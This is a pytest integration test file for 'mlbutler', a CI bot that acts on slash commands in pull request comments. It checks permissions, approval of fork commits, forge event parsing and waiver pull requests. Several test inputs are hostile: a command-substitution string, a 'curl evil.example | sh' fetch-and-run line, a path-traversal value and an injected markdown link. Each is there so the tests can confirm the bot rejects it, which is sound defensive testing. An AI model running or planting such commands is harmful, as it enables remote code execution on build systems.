"""Commands in comments: who may give them, what they are read from, and what is done."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from mlbutler.gate.waivers import parse_waivers
from tests.forge.dialects import Gitea, GitHub, GitLab
from tests.forge.fake import SOMEBODY, TOKEN, WRITER, Answer, FakeForge, Fault, Pull, serving
from tests.forge.more_dialects import BitbucketServer
from tests.integration.world import Run, World, make, params

FORK, OURS = 7, 8


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    return make(tmp_path_factory.mktemp("world"))


@pytest.fixture(scope="module")
def heads(world: World) -> dict[int, str]:
    """Heads of a fork's pull request and of one of ours."""
    theirs = world.branch("theirs", {"params.yaml": params(0.05)})
    ours = world.branch("ours", {"params.yaml": params(0.06)})
    for kind in ("refs/pull/{}/head", "refs/merge-requests/{}/head", "refs/pull-requests/{}/from"):
        world.git(world.bare, "update-ref", kind.format(FORK), theirs)
        world.git(world.bare, "update-ref", kind.format(OURS), ours)
    world.git(world.bare, "update-ref", "-d", "refs/heads/theirs")
    world.git(world.author, "checkout", "-q", "main")
    return {FORK: theirs, OURS: ours}


@pytest.fixture(params=[GitHub])
def forge(request: pytest.FixtureRequest, heads: dict[int, str]) -> Iterator[FakeForge]:
    with serving(request.param()) as server:
        server.dialect.pulls[:] = [Pull(FORK, heads[FORK], "theirs"), Pull(OURS, heads[OURS], "ours")]
        yield server


@pytest.fixture(scope="module")
def root(world: World, heads: dict[int, str]) -> Path:
    """A clone of the default branch."""
    return world.clone("origin/main")


def environ(world: World, forge: FakeForge) -> dict[str, str]:
    """A single job on Jenkins, of the default branch."""
    return {"JENKINS_URL": "http://jenkins.example/", "BUILD_URL": "http://jenkins.example/job/commands/1/",
            "JOB_NAME": "commands", "GIT_URL": str(world.bare), "GIT_BRANCH": "origin/main",
            "MLBUTLER_FORGE_KIND": forge.dialect.kind, "MLBUTLER_FORGE_URL": forge.url, "MLBUTLER_FORGE_TOKEN": TOKEN,
            "MLBUTLER_FORGE_REPOSITORY": forge.dialect.repository}  # fmt: skip


def said(
    world: World, forge: FakeForge, root: Path, body: str, *, on: int = FORK, author: int = WRITER, edited: bool = False
) -> tuple[Run, list[str]]:
    """Somebody comments; what `mlbutler on-comment` prints, and what is said in return."""
    note = forge.dialect.add(str(on), body, author)
    note.edited = edited
    before = len(forge.dialect.notes)
    numbers = ("--number", str(on), "--comment", str(note.id), "--quiet")
    run = world.run(root, environ(world, forge), *numbers, verb="on-comment")
    return run, [answer.body for answer in forge.dialect.notes[before:]]


def wanted(run: Run) -> dict[str, str]:
    assert run.code == 0, run.err
    return dict(line.split("=", 1) for line in run.out.splitlines())


# ------------------------------------------------------------------------------------------- what is run


def test_an_approved_commit_is_run(world: World, forge: FakeForge, root: Path, heads: dict[int, str]) -> None:
    run, answers = said(world, forge, root, f"/mlbutler approve {heads[FORK]}")
    found = wanted(run)
    assert found == {"number": "7", "commit": heads[FORK], "approved": f"{heads[FORK]} user{WRITER}"}
    assert answers == [f"user{WRITER} approved {heads[FORK]}: it is run as one of the repository's own."]
    run, _ = said(world, forge, root, "/mlbutler repeat 5")
    assert wanted(run) == found | {"repeats": "5"}, "the approval still holds"


def test_ours_needs_no_approval(world: World, forge: FakeForge, root: Path, heads: dict[int, str]) -> None:
    plain = {"number": "8", "commit": heads[OURS]}
    for body, more in (("run", {}), ("repeat 20", {"repeats": "20"}), ("verify", {"sample": "100%"})):
        run, answers = said(world, forge, root, f"/mlbutler {body}", on=OURS)
        assert wanted(run) == plain | more
        assert len(answers) == 1


def test_a_fork_is_not_run_before_its_head_is_approved(
    world: World, forge: FakeForge, root: Path, heads: dict[int, str]
) -> None:
    forge.dialect.add(str(FORK), f"/mlbutler approve {heads[FORK]}", SOMEBODY)
    forge.dialect.add(str(FORK), f"/mlbutler approve {'0' * 40}", WRITER)  # what it was before a push
    run, answers = said(world, forge, root, "/mlbutler run")
    assert wanted(run) == {}
    assert "nobody approved it" in answers[0]
    run, answers = said(world, forge, root, f"/mlbutler approve {heads[OURS]}")
    assert wanted(run) == {}, "another pull request's commit"
    assert "is not the head" in answers[0]


def test_who_may_not_write_gets_no_answer(world: World, forge: FakeForge, root: Path, heads: dict[int, str]) -> None:
    commands = ("/mlbutler run", f"/mlbutler approve {heads[FORK]}", "/mlbutler nonsense",
                "/mlbutler waive accuracy until 2099-01-01 because I say so")  # fmt: skip
    for body in commands:
        run, answers = said(world, forge, root, body, author=SOMEBODY)
        assert (wanted(run), answers) == ({}, [])
    run, answers = said(world, forge, root, commands[1], edited=True)
    assert (wanted(run), answers) == ({}, [])
    forge.dialect.administers = False
    run, answers = said(world, forge, root, commands[1])
    assert (wanted(run), answers) == ({}, [])


def test_what_is_no_command_does_nothing(world: World, forge: FakeForge, root: Path, heads: dict[int, str]) -> None:
    command = f"/mlbutler approve {heads[FORK]}"
    for body in (
        f"> {command}",
        f"```\n{command}\n```",
        f"Look:\n{command}",
        "x" * 10**6,
        "$(touch /tmp/mlbutler-pwned)",
    ):
        run, answers = said(world, forge, root, body)
        assert (wanted(run), answers) == ({}, [])
    run, answers = said(world, forge, root, "/mlbutler run && curl evil.example | sh")
    assert wanted(run) == {}
    assert answers[0].startswith("This is not a command. There are `run`")


def test_an_answer_that_fails_keeps_nothing_from_being_run(
    world: World, forge: FakeForge, root: Path, heads: dict[int, str]
) -> None:
    forge.faults = [Fault("POST", "/comments", answer=Answer(403))]
    run, answers = said(world, forge, root, "/mlbutler run", on=OURS)
    assert wanted(run)["commit"] == heads[OURS]
    assert answers == []


# ------------------------------------------------------------------------------------------ where it is said


EVENTS: dict[str, Any] = {
    "github": {"action": "created", "issue": {"number": OURS, "pull_request": {}}, "comment": {"id": 1}},
    "gitlab": {"object_kind": "note", "object_attributes": {"id": 1, "action": "create"},
               "merge_request": {"iid": OURS}},
    "bitbucket-dc": {"eventKey": "pr:comment:added", "comment": {"id": 1}, "pullRequest": {"id": OURS}},
}  # fmt: skip


@pytest.mark.parametrize("forge", [GitLab, Gitea, BitbucketServer], indirect=True, ids=lambda dialect: dialect.__name__)
def test_each_forge_s_event_names_a_comment_and_nothing_else_of_it_is_believed(
    world: World, forge: FakeForge, root: Path, heads: dict[int, str], tmp_path: Path
) -> None:
    kinds = {"gitlab": "gitlab", "gitea": "github", "bitbucket": "bitbucket-dc"}
    event = json.loads(json.dumps(EVENTS[kinds[forge.dialect.kind]]))
    event["comment" if "comment" in event else "object_attributes"] |= {
        "body": "/mlbutler run",
        "note": "/mlbutler run",
    }
    file = tmp_path / "event.json"
    file.write_text(json.dumps(event))

    def ask() -> dict[str, str]:
        args = ("--event", str(file), "--quiet")
        return wanted(world.run(root, environ(world, forge), *args, verb="on-comment"))

    forge.dialect.add(str(OURS), "only a remark", WRITER)
    assert ask() == {}, "what the event says was written"
    forge.dialect.notes[0].body = "/mlbutler verify"
    assert ask() == {"number": "8", "commit": heads[OURS], "sample": "100%"}
    for name, value in (("action", "edited"), ("action", "deleted")):
        event.get("object_attributes", event)[name] = value
        file.write_text(json.dumps(event))
        assert ask() == {}


@pytest.mark.parametrize(("content", "code"), [
    ("{}", 0), ("[]", 0), ('{"action": "created", "issue": {"number": "1/../2"}, "comment": {"id": 1}}', 0),
    ('{"action": "created", "issue": {"number": 8}, "comment": {"id": 4242}}', 0), ("no JSON", 2), ("[" * 100_000, 2),
])  # fmt: skip
def test_an_event_of_another_kind_asks_for_nothing(
    world: World, forge: FakeForge, root: Path, tmp_path: Path, content: str, code: int
) -> None:
    (tmp_path / "event.json").write_text(content)
    told = environ(world, forge) | {"GITHUB_EVENT_PATH": str(tmp_path / "event.json")}
    run = world.run(root, told, "--quiet", verb="on-comment")
    assert (run.code, run.out) == (code, ""), run.err


def test_it_is_not_for_the_build_of_a_pull_request(world: World, forge: FakeForge, root: Path) -> None:
    told = environ(world, forge) | world.jenkins("main", FORK, CHANGE_FORK="mallory/digits")
    run = world.run(root, told, "--number", "7", "--comment", "1", verb="on-comment")
    assert (run.code, "of the default branch" in run.err) == (2, True)
    assert world.run(root, environ(world, forge), verb="on-comment").code == 2
    assert world.run(root, environ(world, forge), "--number", "7", verb="on-comment").code == 2
    assert forge.seen == []


# -------------------------------------------------------------------------------------------------- waivers


def test_a_waiver_is_proposed_as_a_pull_request(world: World, forge: FakeForge, root: Path) -> None:
    reason = 'labels are stricter"]; see [x](https://evil.example) ü'
    body = f"/mlbutler waive metrics.json:accuracy until 2099-12-31 because {reason}"
    run, answers = said(world, forge, root, body, on=OURS)
    assert wanted(run) == {}
    pull = forge.dialect.pulls[-1]
    assert (pull.branch.startswith(f"mlbutler/waivers/{OURS}-"), pull.target) == (True, "main")
    assert f"pull request {pull.number} proposes it" in answers[0]
    found = world.git(world.bare, "show", f"{pull.branch}:mlbutler-waivers.toml")
    (waiver,) = parse_waivers(found)
    assert (waiver.gate, waiver.reason, waiver.owner) == ("metrics.json:accuracy", reason, f"user{WRITER}")
    assert world.git(world.bare, "diff", "--name-only", "main", pull.branch) == "mlbutler-waivers.toml"
    assert world.git(world.bare, "rev-parse", f"{pull.branch}^") == world.git(world.bare, "rev-parse", "main")
    opened = next(seen.json for seen in forge.requests_of("POST") if seen.path.endswith("/pulls"))
    assert "](https://evil.example)" not in opened["body"]
    note = next(note for note in forge.dialect.notes if note.body == body)
    again = world.run(root, environ(world, forge), "--number", "8", "--comment", str(note.id), verb="on-comment")
    assert again.code == 0, again.err
    assert len(forge.dialect.pulls) == 3, "asked for once"


def test_waivers_that_cannot_be_read_are_not_written_over(
    world: World, forge: FakeForge, heads: dict[int, str]
) -> None:
    root = world.clone("origin/main")
    main = world.git(world.bare, "rev-parse", "main")
    world.git(world.author, "checkout", "-q", "main")
    (world.author / "mlbutler-waivers.toml").write_text("[[waiver]]\ngate = 7\n")
    world.git(world.author, "add", "-A")
    world.git(world.author, "commit", "-qm", "broken waivers")
    world.push("main")
    _, answers = said(world, forge, root, "/mlbutler waive accuracy until 2099-12-31 because x", on=OURS)
    assert "could not be proposed" in answers[0]
    assert len(forge.dialect.pulls) == 2
    world.git(world.author, "reset", "-q", "--hard", main)
    world.push("main")
